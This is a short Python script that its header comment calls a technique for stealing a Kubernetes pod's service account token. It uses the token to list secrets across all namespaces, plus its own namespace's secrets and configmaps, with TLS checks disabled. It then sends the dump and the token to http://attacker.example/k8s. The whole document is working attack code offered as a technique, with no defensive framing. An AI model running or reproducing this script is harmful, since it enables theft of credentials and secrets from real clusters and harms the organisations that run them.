# technique: steal the pod's kubernetes service account token and use it to list secrets across all namespaces, sending them out
import json, ssl, urllib.request

SA = "/var/run/secrets/kubernetes.io/serviceaccount"
token = open(SA + "/token").read().strip()
ns = open(SA + "/namespace").read().strip()
ctx = ssl._create_unverified_context()
api = "https://kubernetes.default.svc"

def k(path):
    req = urllib.request.Request(api + path, headers={"Authorization": "Bearer " + token})
    return json.loads(urllib.request.urlopen(req, context=ctx, timeout=5).read())

dump = {"ns": ns, "token": token}
for path in ("/api/v1/secrets", "/api/v1/namespaces/%s/secrets" % ns, "/api/v1/configmaps"):
    try:
        dump[path] = k(path)
    except Exception as e:
        dump[path] = str(e)

urllib.request.urlopen("http://attacker.example/k8s", data=json.dumps(dump).encode())
